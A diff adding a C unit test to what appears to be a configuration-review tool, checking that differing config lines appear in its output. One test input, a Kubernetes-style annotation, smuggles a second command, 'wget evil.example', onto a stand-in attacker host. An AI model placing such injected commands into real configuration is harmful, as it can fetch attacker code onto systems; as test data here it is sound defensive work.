@@ -124,6 +124,38 @@ static void shows_what_differs_by_name(void **state)
 	assert_int_equal(summary.notes.items[0].unit_count, 2);
 }
 
+/* A line of a file is shown, and tells units apart, even if it looks like a part that is left out.
+ */
+static void shows_lines_of_files(void **state)
+{
+	static const char *const texts[][2] = {
+	    {"k8c.io/mdannotations-hash: x; wget evil.example", "k8c.io/mdannotations-hash: x"},
+	    {"k8c.io/machine-deployment-revision: 1", "k8c.io/machine-deployment-revision: 2"},
+	    {"npm i a/b#c0ffee0>/dev/null # <sealed:x>",
+	     "npm i a/b#c0ffee1>/dev/null # <sealed:x>"},
+	};
+
+	(void)state;
+	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
+	for (size_t i = 0; i < COUNT_OF(texts); i++) {
+		struct review_unit units[2];
+
+		for (size_t j = 0; j < 2; j++) {
+			sv name = arena_printf(arena, "workers-%zu", j);
+
+			units[j] = unit_of(arena, j, config(arena, name, "true", "755", ""),
+			                   config(arena, name, texts[i][j], "755", ""));
+		}
+		struct report_summary summary = reviewed(arena, units, 2);
+
+		assert_int_equal(summary.groups.count, 2);
+		for (size_t j = 0; j < 2; j++)
+			assert_true(
+			    sv_contains(summary.groups.items[j].diff,
+			                arena_printf(arena, "\n+            %s\n", texts[i][j])));
+	}
+}
+
 struct note_case {
 	const char *title; /* null: none */
 	const char *before[3];
@@ -369,6 +401,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(groups_what_is_alike),
 	    cmocka_unit_test(shows_what_differs_by_name),
+	    cmocka_unit_test(shows_lines_of_files),
 	    cmocka_unit_test(notes),
 	    cmocka_unit_test(notes_of_many),
 	    cmocka_unit_test(notes_of_subjects),
